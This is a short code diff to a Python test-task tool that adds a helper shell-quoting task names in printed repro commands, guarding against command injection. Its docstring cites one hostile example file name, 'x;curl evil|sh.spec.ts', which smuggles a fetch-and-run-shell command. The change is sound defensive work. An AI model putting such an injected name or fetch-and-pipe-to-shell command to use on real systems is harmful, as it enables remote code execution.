@@ -6,6 +6,7 @@ fuzz tasks (fuzz_tasks.py).
 from __future__ import annotations
 
 import posixpath
+import shlex
 from dataclasses import dataclass, replace
 from typing import Any
 
@@ -14,6 +15,14 @@ from astest_tasks.config.project_config import ProjectConfig
 from astest_tasks.config.shards import Shard
 
 BASENAME = "astest"
+
+
+def task_command(command: str, task: str) -> str:
+    """The command line that runs ``task``, as a hint or a repro line prints it. A task name
+    carries a spec's path, which a spec author chose (``x;curl evil|sh.spec.ts``): quoted, so a
+    line copied into a shell runs that task and nothing else. Ordinary names need no quotes and
+    print as they are."""
+    return f"{command} {shlex.quote(task)}"
 
 
 @dataclass(frozen=True)
